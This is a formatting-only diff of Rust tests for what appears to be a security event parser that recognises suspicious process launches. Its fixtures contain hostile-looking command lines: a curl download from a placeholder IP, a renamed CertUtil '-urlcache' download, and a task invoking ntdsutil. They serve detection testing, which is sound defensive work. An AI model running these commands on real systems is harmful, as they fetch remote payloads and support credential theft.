@@ -31,18 +31,31 @@ fn linux_programs_are_read_with_their_session() {
                 (Some(Column::User), "AUID", "Anna"),
                 (Some(Column::Session), "ses", session),
                 (Some(Column::Process), "exe", "/usr/bin/curl"),
-                (Some(Column::CommandLine), "CommandLine", "curl -o /tmp/x http://203.0.113.9/x"),
+                (
+                    Some(Column::CommandLine),
+                    "CommandLine",
+                    "curl -o /tmp/x http://203.0.113.9/x",
+                ),
             ],
         )
     };
     let read = facts(&execve("7")).unwrap();
     assert_eq!(
-        (read.act, read.host.as_str(), read.user.as_str(), read.session.as_str()),
+        (
+            read.act,
+            read.host.as_str(),
+            read.user.as_str(),
+            read.session.as_str()
+        ),
         (Act::Start, "web1", "anna", "7")
     );
     assert!(read.traits.has(Traits::URL_ADDRESS));
     assert_eq!(facts(&execve("4294967295")).unwrap().session, "");
-    let other = event(Class::FILE_ACTIVITY, 1300, &[(Some(Column::Process), "exe", "/usr/bin/curl")]);
+    let other = event(
+        Class::FILE_ACTIVITY,
+        1300,
+        &[(Some(Column::Process), "exe", "/usr/bin/curl")],
+    );
     assert_eq!(facts(&other), None);
 }
 
@@ -53,7 +66,11 @@ fn renamed_programs_and_tasks_are_known_by_what_they_are() {
         1,
         &[
             (Some(Column::Process), "Image", "C:\\ProgramData\\a.exe"),
-            (Some(Column::CommandLine), "CommandLine", "a.exe -urlcache -f http://203.0.113.9/x x"),
+            (
+                Some(Column::CommandLine),
+                "CommandLine",
+                "a.exe -urlcache -f http://203.0.113.9/x x",
+            ),
             (None, "OriginalFileName", "CertUtil.exe"),
         ],
     );
@@ -71,5 +88,9 @@ fn renamed_programs_and_tasks_are_known_by_what_they_are() {
     );
     let read = facts(&task).unwrap();
     assert_eq!((read.act, read.image.as_str()), (Act::Task, "cmd.exe"));
-    assert!(read.programs.iter().any(|program| program == "ntdsutil"), "{:?}", read.programs);
+    assert!(
+        read.programs.iter().any(|program| program == "ntdsutil"),
+        "{:?}",
+        read.programs
+    );
 }
